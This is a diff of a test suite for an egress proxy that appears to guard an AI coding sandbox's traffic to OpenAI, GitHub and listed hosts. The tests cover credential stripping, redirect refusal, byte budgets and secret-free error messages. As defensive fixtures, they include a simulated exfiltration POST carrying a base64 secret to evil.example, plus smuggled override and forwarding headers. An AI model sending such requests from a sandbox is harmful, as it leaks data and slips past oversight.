@@ -1,38 +1,54 @@
 import { describe, expect, it } from 'vitest';
 import type { EgressEntry, Grant } from '../core/grant.ts';
+import { exampleGrant } from './example-grant.ts';
 import { handleEgress, type EgressDeps } from './handler.ts';
+import { egressLimits } from './limits.ts';
 
-const grant: Grant = {
-  taskId: 'gh-1-c2',
-  phase: 'run',
-  repositories: [{ owner: 'acme', name: 'app', installationId: 1, repositoryId: 2 }],
-  models: ['m'],
-  canaryNonce: 'nonce',
-  budgets: { requests: 10, tokens: 10 },
-  used: { requests: 0, tokens: 0 },
-};
 const apiKey = 'sk-the-real-key';
 const readToken = 'ghs_theReadToken';
-const body = JSON.stringify({ model: 'm', stream: true, store: false, input: [] });
+const body = JSON.stringify({ model: 'gpt-5.5', stream: true, store: false, input: [] });
+const infoRefs = 'info/refs?service=git-upload-pack';
 
 interface Seen {
   readonly url: string;
-  readonly init: RequestInit;
+  readonly method: string;
+  readonly redirect: string | undefined;
+  readonly headers: Headers;
+  readonly body: string;
+}
+interface Changes extends Partial<EgressDeps> {
+  readonly grant?: Partial<Grant>;
 }
 
-function world(upstream: (seen: Seen) => Response | Promise<Response>, changes: Partial<EgressDeps> = {}) {
+let renamedRepositories = 100;
+
+function world(
+  upstream: (seen: Seen) => Response | Promise<Response>,
+  { grant = {}, ...changes }: Changes = {},
+) {
   const calls: Seen[] = [];
   const entries: { entry: EgressEntry; tokens: number }[] = [];
   const pending: Promise<unknown>[] = [];
+  // A repository of its own for each world: names are remembered from one request to the next.
+  const repositories = [
+    { owner: 'acme', name: 'app', installationId: 1, repositoryId: (renamedRepositories += 1) },
+  ];
   const deps: EgressDeps = {
-    admit: async (id) => (id === 'known' ? grant : null),
+    admit: async (id) => (id === 'known' ? { ...exampleGrant, repositories, ...grant } : null),
     record: async (_, entry, tokens) => void entries.push({ entry, tokens }),
     readToken: async () => readToken,
     openaiApiKey: apiKey,
     githubUrl: 'https://ghe.example',
     openaiBaseUrl: 'https://gateway.example/v1',
     fetch: async (input, init) => {
-      const seen = { url: input instanceof Request ? input.url : input.toString(), init: init ?? {} };
+      const seen: Seen = {
+        url: input instanceof Request ? input.url : input.toString(),
+        method: init?.method ?? 'GET',
+        redirect: init?.redirect,
+        headers: new Headers(init?.headers),
+        // Reads what is streamed up, as a server would.
+        body: await new Response(init?.body).text(),
+      };
       calls.push(seen);
       return await upstream(seen);
     },
@@ -40,7 +56,19 @@ function world(upstream: (seen: Seen) => Response | Promise<Response>, changes: 
     waitUntil: (work) => void pending.push(work),
     ...changes,
   };
-  return { deps, calls, entries, settle: async () => await Promise.all(pending) };
+  return {
+    deps,
+    calls,
+    entries,
+    ask: async (request: Request, id = 'known') => {
+      const response = await handleEgress(request, id, deps);
+      const text = await response.text().catch(() => 'cut off');
+      await Promise.all(pending);
+      return { status: response.status, headers: response.headers, text };
+    },
+    /** What was written down, in short. */
+    noted: () => entries.map(({ entry }) => `${entry.verdict} ${entry.rule} ${entry.status}`),
+  };
 }
 const model = (init: RequestInit = {}) =>
   new Request('https://api.openai.com/v1/responses', {
@@ -49,54 +77,123 @@ const model = (init: RequestInit = {}) =>
     ...init,
     headers: { 'content-type': 'application/json', ...Object.fromEntries(new Headers(init.headers)) },
   });
-const stream = (text: string, init: ResponseInit = {}) => new Response(text, init);
+const fetchRefs = (headers: Record<string, string> = {}, repository = 'acme/app') =>
+  new Request(`https://github.com/${repository}/${infoRefs}`, { headers });
+const uploadPack = (content = '0032want abc', headers: Record<string, string> = {}) =>
+  new Request('https://github.com/acme/app.git/git-upload-pack', {
+    method: 'POST',
+    body: content,
+    headers: { 'content-type': 'application/x-git-upload-pack-request', ...headers },
+  });
+const redirect =
+  (location: string, status = 301) =>
+  () =>
+    new Response(null, { status, headers: { location } });
 const completed =
   'event: response.completed\ndata: {"type":"response.completed","response":{"usage":{"total_tokens":77}}}\n\n';
+const streamOf = (bytes: number, pieces: number) => {
+  let left = pieces;
+  return new ReadableStream<Uint8Array>({
+    pull: (controller) => {
+      if (left === 0) controller.close();
+      else controller.enqueue(new Uint8Array(bytes));
+      left -= 1;
+    },
+  });
+};
 
-describe('the egress handler', () => {
-  it('adds our key to a model request and drops the sandbox’s own credentials', async () => {
-    const { deps, calls } = world(() => stream(completed));
-    await handleEgress(
+describe('what reaches an upstream', () => {
+  it('is a model request with our key, and nothing of the sandbox’s own credentials', async () => {
+    const { ask, calls } = world(() => new Response(completed), {
+      openaiOrganization: 'org-ours',
+      openaiProject: 'proj-ours',
+    });
+    await ask(
       model({
         headers: {
           authorization: 'Bearer sk-attacker',
           cookie: 'a=b',
           'openai-organization': 'org-evil',
-          'x-codex-turn': '1',
+          'openai-project': 'proj-evil',
+          'openai-beta': 'everything=on',
+          'x-codex-unheard-of': '1',
+          'x-http-method-override': 'DELETE',
+          'x-forwarded-host': 'evil.example',
+          'x-codex-turn-metadata': '{}',
+          'user-agent': 'x'.repeat(10_000),
         },
       }),
-      'known',
-      deps,
     );
-    const headers = new Headers(calls[0]?.init.headers);
-    expect(calls[0]?.url).toBe('https://gateway.example/v1/responses');
-    expect(headers.get('authorization')).toBe(`Bearer ${apiKey}`);
-    expect(headers.get('cookie')).toBeNull();
-    expect(headers.get('openai-organization')).toBeNull();
-    expect(headers.get('x-codex-turn')).toBe('1');
-    expect(calls[0]?.init.redirect).toBe('manual');
+    expect(calls).toHaveLength(1);
+    expect(calls[0]).toMatchObject({ url: 'https://gateway.example/v1/responses', redirect: 'manual', body });
+    expect(Object.fromEntries(calls[0]?.headers ?? [])).toEqual({
+      'accept-encoding': 'identity',
+      authorization: `Bearer ${apiKey}`,
+      'content-type': 'application/json',
+      'openai-organization': 'org-ours',
+      'openai-project': 'proj-ours',
+      'x-codex-turn-metadata': '{}',
+    });
   });
 
-  it('adds the narrowed token to a fetch and goes to the repository of the grant', async () => {
-    const { deps, calls } = world(() => stream('refs'));
-    await handleEgress(
-      new Request('https://github.com/ACME/App/info/refs?service=git-upload-pack', {
-        headers: { authorization: 'Basic evil' },
+  it('is the body that was decided, in our spelling', async () => {
+    const { ask, calls } = world(() => new Response(completed));
+    await ask(model({ body: body.replace('"store":false', ' "st\\u006fre" : false') }));
+    expect(calls[0]?.body).toBe(body);
+  });
+
+  it('is a fetch of the repository of the grant with the narrowed token', async () => {
+    const { ask, calls } = world(() => new Response('refs'));
+    const { text } = await ask(
+      fetchRefs({ authorization: 'Basic evil', 'git-protocol': 'version=2', 'x-extra': 'no' }, 'ACME/App'),
+    );
+    expect(text).toBe('refs');
+    expect(calls[0]?.url).toBe(`https://ghe.example/acme/app.git/${infoRefs}`);
+    expect(Object.fromEntries(calls[0]?.headers ?? [])).toMatchObject({
+      authorization: `Basic ${btoa(`x-access-token:${readToken}`)}`,
+      'git-protocol': 'version=2',
+    });
+    expect(calls[0]?.headers.has('x-extra')).toBe(false);
+  });
+
+  it.each(['version=2:secret', 'version=99', 'source=c291cmNl'])(
+    'is no protocol version like %s',
+    async (version) => {
+      const { ask, calls } = world(() => new Response('refs'));
+      await ask(fetchRefs({ 'git-protocol': version }));
+      expect(calls[0]?.headers.has('git-protocol')).toBe(false);
+    },
+  );
+
+  it('is a compressed upload-pack request as it came', async () => {
+    const { ask, calls, entries } = world(() => new Response('pack'));
+    await ask(uploadPack('not really gzip', { 'content-encoding': 'gzip', expect: '100-continue' }));
+    expect(calls[0]).toMatchObject({ method: 'POST', body: 'not really gzip' });
+    expect(calls[0]?.headers.get('content-encoding')).toBe('gzip');
+    expect(calls[0]?.headers.has('expect')).toBe(false);
+    expect(entries).toMatchObject([{ entry: { rule: 'github.upload-pack', bytesUp: 15, bytesDown: 4 } }]);
+  });
+
+  it('is a GET to a listed host without any credential', async () => {
+    const { ask, calls } = world(() => new Response('package'), { grant: { phase: 'setup' } });
+    const { text } = await ask(
+      new Request('http://registry.example.com/a?b', {
+        headers: { authorization: 'Bearer own', cookie: 'a', accept: '*/*' },
       }),
-      'known',
-      deps,
     );
-    expect(calls[0]?.url).toBe('https://ghe.example/acme/app.git/info/refs?service=git-upload-pack');
-    expect(new Headers(calls[0]?.init.headers).get('authorization')).toBe(
-      `Basic ${btoa(`x-access-token:${readToken}`)}`,
-    );
+    expect(text).toBe('package');
+    expect(calls[0]?.url).toBe('https://registry.example.com/a?b');
+    expect(Object.fromEntries(calls[0]?.headers ?? [])).toEqual({
+      accept: '*/*',
+      'accept-encoding': 'identity',
+    });
   });
+});
 
-  it('counts the tokens that the stream reports, and the bytes both ways', async () => {
-    const { deps, entries, settle } = world(() => stream(completed));
-    const response = await handleEgress(model(), 'known', deps);
-    expect(await response.text()).toBe(completed);
-    await settle();
+describe('what is written down', () => {
+  it('is the tokens that the stream reports, and the bytes both ways', async () => {
+    const { ask, entries } = world(() => new Response(completed));
+    expect((await ask(model())).text).toBe(completed);
     expect(entries).toMatchObject([
       {
         tokens: 77,
@@ -110,19 +207,33 @@ describe('the egress handler', () => {
     ]);
   });
 
-  it('charges an estimate when the sandbox hangs up before the usage came', async () => {
-    const endless = new ReadableStream<Uint8Array>({
-      pull: (controller) => controller.enqueue(new Uint8Array(400)),
-    });
-    const { deps, entries, settle } = world(() => new Response(endless));
+  it('is an estimate when the sandbox hangs up before the usage came', async () => {
+    const { deps, entries } = world(() => new Response(streamOf(400, 1_000_000)));
     const response = await handleEgress(model(), 'known', deps);
     const reader = response.body?.getReader();
     await reader?.read();
     await reader?.cancel();
-    await settle();
-    expect(entries[0]?.tokens).toBeGreaterThanOrEqual(100);
+    await expect.poll(() => entries[0]?.tokens ?? 0).toBeGreaterThanOrEqual(100);
   });
 
+  it('is never a query, a header, a body or a long piece of a path', async () => {
+    const { ask, entries } = world(() => new Response('never'));
+    const secret = 'c291cmNlIG9mIHRoZSByZXBvc2l0b3J5IGluIGJhc2U2NA';
+    await ask(
+      new Request(`https://evil.example/drop/${secret}/1/2/3/4/5/6?q=${secret}`, {
+        method: 'POST',
+        body: secret,
+        headers: { 'x-a': secret },
+      }),
+    );
+    expect(entries.map(({ entry }) => entry)).toMatchObject([
+      { path: '/drop/…/1/2/3/4/…', rule: 'host.not-granted' },
+    ]);
+    expect(JSON.stringify(entries)).not.toContain(secret);
+  });
+});
+
+describe('what is refused', () => {
   it.each([
     ['an unknown sandbox', 'other', model(), 403, 'grant.none', 0],
     [
@@ -134,60 +245,285 @@ describe('the egress handler', () => {
       1,
     ],
     ['a forbidden body', 'known', model({ body: '{"model":"x"}' }), 400, 'openai.field', 1],
-  ])('refuses %s without calling anybody', async (_, id, request, status, code, recorded) => {
-    const { deps, calls, entries } = world(() => stream('must not be asked'));
-    const response = await handleEgress(request, id, deps);
+    [
+      'a body that is too large',
+      'known',
+      model({ body: 'x'.repeat(egressLimits.openaiBodyBytes + 1) }),
+      400,
+      'openai.size',
+      1,
+    ],
+    [
+      'an LFS upload',
+      'known',
+      new Request('https://github.com/acme/app.git/info/lfs/objects/batch', {
+        method: 'POST',
+        body: '{"operation":"upload","objects":[]}',
+        headers: { 'content-type': 'application/vnd.git-lfs+json' },
+      }),
+      403,
+      'github.lfs-upload',
+      1,
+    ],
+  ])('%s, without calling anybody', async (_, id, request, status, code, recorded) => {
+    const { ask, calls, noted } = world(() => new Response('must not be asked'), {
+      grant: { phase: code.includes('lfs') ? 'clone' : 'run' },
+    });
+    const response = await ask(request, id);
     expect(response.status).toBe(status);
-    expect(await response.json()).toMatchObject({ error: { type: 'airlock_egress', code } });
+    expect(JSON.parse(response.text)).toMatchObject({ error: { type: 'airlock_egress', code } });
     expect(calls).toEqual([]);
-    expect(entries.map(({ entry }) => entry.rule)).toEqual(recorded === 0 ? [] : [code]);
+    expect(noted()).toEqual(recorded === 0 ? [] : [`denied ${code} ${status}`]);
+  });
+
+  it('a fifth model request while four are under way, and not the one after', async () => {
+    const { deps, ask } = world(() => new Response(streamOf(1, 2)));
+    const open = await Promise.all([1, 2, 3, 4].map(async () => await handleEgress(model(), 'known', deps)));
+    expect(JSON.parse((await ask(model())).text)).toMatchObject({ error: { code: 'openai.concurrency' } });
+    await Promise.all(open.map(async (response) => await response.text()));
+    expect((await ask(model())).status).toBe(200);
+  });
+
+  it.each([
+    ['OpenAI', model(), redirect('https://evil.example', 307), 400, 'openai.redirect'],
+    [
+      'a listed host, to another',
+      new Request('https://docs.example.com/'),
+      redirect('https://evil.example/x'),
+      403,
+      'host.redirect',
+    ],
+    [
+      'a listed host, to GitHub',
+      new Request('https://docs.example.com/'),
+      redirect('https://github.com/acme/app'),
+      403,
+      'host.redirect',
+    ],
+    [
+      'a listed host, to nowhere',
+      new Request('https://docs.example.com/'),
+      () => new Response(null, { status: 302 }),
+      403,
+      'host.redirect',
+    ],
+  ])('a redirect of %s', async (_, request, upstream, status, code) => {
+    const { ask, calls } = world(upstream);
+    const response = await ask(request);
+    expect(response.status).toBe(status);
+    expect(response.text).toContain(code);
+    expect(response.headers.has('location')).toBe(false);
+    expect(calls).toHaveLength(1);
+  });
+});
+
+it('leaves a redirect between listed hosts to the sandbox, whose next request is decided anew', async () => {
+  const { ask, calls } = world(redirect('//both.example.com/y', 302));
+  const response = await ask(new Request('https://docs.example.com/x'));
+  expect([response.status, response.headers.get('location')]).toEqual([302, 'https://both.example.com/y']);
+  expect(calls).toHaveLength(1);
+});
+
+describe('a renamed repository', () => {
+  const renamed = `https://ghe.example/acme/new-name.git/${infoRefs}`;
+  const rename =
+    (to = renamed) =>
+    (seen: Seen) =>
+      seen.url.includes('/app.git/') ? redirect(to)() : new Response(`from ${seen.url}`);
+
+  it('is fetched under its new name when GitHub says that the granted id has it now', async () => {
+    const asked: number[] = [];
+    const { ask, calls, noted } = world(rename(), {
+      currentName: async (_, { repositoryId }) => {
+        asked.push(repositoryId);
+        return { owner: 'Acme', name: 'New-Name' };
+      },
+    });
+    expect((await ask(fetchRefs())).text).toBe(`from https://ghe.example/Acme/New-Name.git/${infoRefs}`);
+    // The second half of the fetch goes there at once: its body could not be sent again.
+    expect((await ask(uploadPack())).text).toBe('from https://ghe.example/Acme/New-Name.git/git-upload-pack');
+    expect(calls).toHaveLength(3);
+    expect(asked).toHaveLength(1);
+    expect(noted()).toEqual(['allowed github.info-refs 200', 'allowed github.upload-pack 200']);
+  });
+
+  it('is fetched under its new name when the grant has that name', async () => {
+    const { ask } = world(rename(`https://ghe.example/acme/shared.css.git/${infoRefs}`));
+    expect((await ask(fetchRefs())).text).toBe(`from https://ghe.example/acme/shared.css.git/${infoRefs}`);
+  });
+
+  it.each([
+    ['whose id has another name', renamed, { owner: 'acme', name: 'third' }],
+    ['whose name cannot be known', renamed, null],
+    [
+      'at another host',
+      `https://evil.example/acme/new-name.git/${infoRefs}`,
+      { owner: 'acme', name: 'new-name' },
+    ],
+    [
+      'at another port',
+      `https://ghe.example:8443/acme/new-name.git/${infoRefs}`,
+      { owner: 'acme', name: 'new-name' },
+    ],
+    ['without TLS', `http://ghe.example/acme/new-name.git/${infoRefs}`, { owner: 'acme', name: 'new-name' }],
+    [
+      'with a user name',
+      `https://u@ghe.example/acme/new-name.git/${infoRefs}`,
+      { owner: 'acme', name: 'new-name' },
+    ],
+    [
+      'for pushing',
+      'https://ghe.example/acme/new-name.git/info/refs?service=git-receive-pack',
+      { owner: 'acme', name: 'new-name' },
+    ],
+    [
+      'at another endpoint',
+      'https://ghe.example/acme/new-name/archive/main.zip',
+      { owner: 'acme', name: 'new-name' },
+    ],
+    ['nowhere', '', null],
+  ])('is not followed to one %s', async (_, location, current) => {
+    const { ask, calls, noted } = world(rename(location), { currentName: async () => current });
+    expect((await ask(fetchRefs())).text).toContain('github.redirect');
+    expect(calls).toHaveLength(1);
+    expect(noted()).toEqual(['denied github.redirect 403']);
+  });
+
+  it('is not followed twice, and not at all without a way to ask for names', async () => {
+    const again = world(rename(`https://ghe.example/acme/app.git/${infoRefs}`));
+    expect((await again.ask(fetchRefs())).text).toContain('github.redirect');
+    expect(again.calls).toHaveLength(2);
+    const unknown = world(rename());
+    expect((await unknown.ask(fetchRefs())).text).toContain('github.redirect');
+  });
+});
+
+describe('budgets of bytes', () => {
+  const budgets = { ...exampleGrant.budgets, bytesUp: 20, bytesDown: 1_000 };
+
+  it('cut an answer off where they end, and say so', async () => {
+    const { ask, entries, noted } = world(() => new Response(streamOf(300, 10)), {
+      grant: { budgets, used: { ...exampleGrant.used, bytesDown: 300 } },
+    });
+    expect((await ask(fetchRefs())).text).toBe('cut off');
+    expect(noted()).toEqual(['allowed github.info-refs 200', 'denied budget.bytes-down 200']);
+    expect(entries[0]?.entry.bytesDown).toBe(600);
+  });
+
+  it('cut an upload off where they end, and say so', async () => {
+    const { ask, noted } = world(() => new Response('never'), { grant: { budgets } });
+    expect((await ask(uploadPack('x'.repeat(21)))).text).toContain('budget.bytes-up');
+    expect(noted()).toEqual(['denied budget.bytes-up 400']);
+  });
+
+  it('refuse a model request that is larger than what is left', async () => {
+    const { ask, calls } = world(() => new Response('never'), { grant: { budgets } });
+    expect((await ask(model())).text).toContain('budget.bytes-up');
+    expect(calls).toEqual([]);
+  });
+});
+
+describe('Git LFS', () => {
+  const oid = 'ab12'.repeat(16);
+  const batch = (content: unknown) =>
+    new Request('https://github.com/acme/app.git/info/lfs/objects/batch', {
+      method: 'POST',
+      body: JSON.stringify(content),
+      headers: { 'content-type': 'application/vnd.git-lfs+json; charset=utf-8' },
+    });
+  const download = (href: string) => ({
+    objects: [{ oid, size: 4, actions: { download: { href, header: { 'x-signed': 'yes' } } } }],
+  });
+  const object = new Request(`https://github.com/acme/app.git/info/lfs/objects/${oid}/4`);
+  const clone = { grant: { phase: 'clone' as const } };
+
+  it('shows the sandbox addresses of ours, and fetches from GitHub’s without our token', async () => {
+    const { ask, calls, noted } = world(
+      ({ url }) =>
+        url.startsWith('https://ghe.example')
+          ? Response.json(download('https://objects.example/signed?x=1'))
+          : new Response('data'),
+      clone,
+    );
+    const { text } = await ask(
+      batch({
+        operation: 'download',
+        objects: [{ oid, size: 4 }],
+        extra: 'no',
+        ref: { name: 'refs/heads/main' },
+      }),
+    );
+    expect(text).not.toContain('objects.example');
+    expect(JSON.parse(text)).toMatchObject({
+      objects: [
+        { actions: { download: { href: `https://github.com/acme/app.git/info/lfs/objects/${oid}/4` } } },
+      ],
+    });
+    expect(calls[0]?.body).toBe(
+      JSON.stringify({
+        operation: 'download',
+        transfers: ['basic'],
+        hash_algo: 'sha256',
+        objects: [{ oid, size: 4 }],
+      }),
+    );
+    expect((await ask(object.clone())).text).toBe('data');
+    expect(calls.map(({ url }) => url).slice(1)).toEqual([
+      'https://ghe.example/acme/app.git/info/lfs/objects/batch',
+      'https://objects.example/signed?x=1',
+    ]);
+    expect(Object.fromEntries(calls[2]?.headers ?? [])).toEqual({
+      'accept-encoding': 'identity',
+      'x-signed': 'yes',
+    });
+    expect(noted()).toEqual(['allowed github.lfs-batch 200', 'allowed github.lfs-object 200']);
   });
 
   it.each([
     [
-      'a redirect of GitHub',
-      new Request('https://github.com/acme/app/info/refs?service=git-upload-pack'),
-      () => new Response(null, { status: 301, headers: { location: 'https://evil.example' } }),
-      403,
-      'github.redirect',
+      'an object that GitHub does not have',
+      { objects: [{ oid, size: 4, error: { code: 404, message: 'no' } }] },
     ],
     [
-      'a redirect of OpenAI',
-      model(),
-      () => new Response(null, { status: 307, headers: { location: 'https://evil.example' } }),
-      400,
-      'openai.redirect',
+      'another object',
+      {
+        objects: [
+          { oid: 'cd34'.repeat(16), size: 4, actions: { download: { href: 'https://objects.example/' } } },
+        ],
+      },
     ],
-    [
-      'OpenAI’s word about our key',
-      model(),
-      () => Response.json({ error: { message: `Incorrect API key provided: ${apiKey}` } }, { status: 401 }),
-      400,
-      'openai.unauthorized',
-    ],
-  ])('passes on neither %s', async (_, request, upstream, status, code) => {
-    const { deps } = world(upstream);
-    const response = await handleEgress(request, 'known', deps);
-    const text = await response.text();
-    expect(response.status).toBe(status);
-    expect(text).toContain(code);
-    expect(text).not.toContain(apiKey);
-    expect(response.headers.get('location')).toBeNull();
+    ['an address without TLS', download('http://objects.example/')],
+    ['an address with a user name', download('https://a:b@objects.example/')],
+    ['something else', { hello: 1 }],
+  ])('does not fetch %s', async (_, answer) => {
+    const { ask, calls } = world(() => Response.json(answer), clone);
+    expect((await ask(object.clone())).text).toContain('github.lfs-upstream');
+    expect(calls).toHaveLength(1);
   });
 
+  it('follows no redirect of an object', async () => {
+    const { ask, calls } = world(
+      ({ url }) =>
+        url.startsWith('https://ghe.example')
+          ? Response.json(download('https://objects.example/'))
+          : redirect('https://evil.example/')(),
+      clone,
+    );
+    expect((await ask(object.clone())).text).toContain('github.redirect');
+    expect(calls).toHaveLength(2);
+  });
+});
+
+describe('what the sandbox is told', () => {
   it.each([
     ['the upstream fails', { fetch: async () => Promise.reject(new Error(`connect failed with ${apiKey}`)) }],
     ['the token cannot be had', { readToken: async () => Promise.reject(new Error(readToken)) }],
     ['the record cannot be reached', { admit: async () => Promise.reject(new Error('secret internals')) }],
-  ])('says nothing of its insides when %s', async (_, changes: Partial<EgressDeps>) => {
-    const { deps } = world(() => stream(''), changes);
-    const request =
-      'readToken' in changes
-        ? new Request('https://github.com/acme/app/info/refs?service=git-upload-pack')
-        : model();
-    const response = await handleEgress(request, 'known', deps);
-    expect(response.status).toBe(502);
-    expect(await response.json()).toEqual({
+  ])('is nothing of our insides when %s', async (_, changes: Partial<EgressDeps>) => {
+    const { ask } = world(() => new Response(''), changes);
+    const { status, text } = await ask('readToken' in changes ? fetchRefs() : model());
+    expect(status).toBe(502);
+    expect(JSON.parse(text)).toEqual({
       error: {
         message: 'Airlock: the request could not be carried out',
         type: 'airlock_egress',
@@ -197,14 +533,67 @@ describe('the egress handler', () => {
     });
   });
 
-  it('strips response headers that set state', async () => {
-    const { deps } = world(() =>
-      stream(completed, {
-        headers: { 'set-cookie': 'a=b', 'x-request-id': 'r', 'content-type': 'text/event-stream' },
-      }),
+  it.each([
+    [401, { error: { message: `Incorrect API key provided: ${apiKey}` } }, 400, 'openai.unauthorized'],
+    [403, { error: { message: 'Project proj_secret is archived' } }, 400, 'openai.unauthorized'],
+    [
+      429,
+      {
+        error: {
+          message: 'Rate limit reached for gpt-5.5 in organization org-secret on tokens',
+          type: 'tokens',
+          code: 'rate_limit_exceeded',
+        },
+      },
+      429,
+      'Rate limit reached for gpt-5.5 in organization [removed] on tokens',
+    ],
+    [500, '<html>proxy of org-secret</html>', 500, 'OpenAI answered with status 500'],
+  ])('of OpenAI’s error %i is what names nothing of ours', async (status, answer, passed, words) => {
+    const { ask } = world(
+      () =>
+        new Response(typeof answer === 'string' ? answer : JSON.stringify(answer), {
+          status,
+          headers: { 'retry-after': '7', 'openai-organization': 'org-secret' },
+        }),
     );
-    const response = await handleEgress(model(), 'known', deps);
-    expect(response.headers.get('set-cookie')).toBeNull();
-    expect(response.headers.get('x-request-id')).toBe('r');
+    const response = await ask(model());
+    expect(response.status).toBe(passed);
+    expect(response.text).toContain(words);
+    expect(JSON.stringify([...response.headers]) + response.text).not.toMatch(/secret|sk-the|<html>/);
+  });
+
+  it('has no header that sets state or tells of our account', async () => {
+    const { ask } = world(
+      () =>
+        new Response(completed, {
+          headers: {
+            'set-cookie': 'a=b',
+            'x-request-id': 'r',
+            'content-type': 'text/event-stream',
+            link: '<https://evil.example>',
+            'openai-organization': 'o',
+            'x-codex-credits-balance': '1',
+            'x-codex-turn-state': 's',
+            location: 'https://evil.example',
+          },
+        }),
+    );
+    const { headers } = await ask(model());
+    expect([...headers.keys()].toSorted()).toEqual(['content-type', 'x-codex-turn-state', 'x-request-id']);
+  });
+
+  it.each([204, 304])('is an answer without a body as it is: %i', async (status) => {
+    const { ask, noted } = world(() => new Response(null, { status }));
+    expect((await ask(new Request('https://docs.example.com/'))).status).toBe(status);
+    expect(noted()).toEqual([`allowed host.extra ${status}`]);
+  });
+
+  it('is which models the task may use, without asking OpenAI', async () => {
+    const { ask, calls } = world(() => new Response('never'));
+    expect(JSON.parse((await ask(new Request('https://api.openai.com/v1/models'))).text)).toMatchObject({
+      data: [{ id: 'gpt-6.1-sol' }, { id: 'gpt-5.5' }],
+    });
+    expect(calls).toEqual([]);
   });
 });
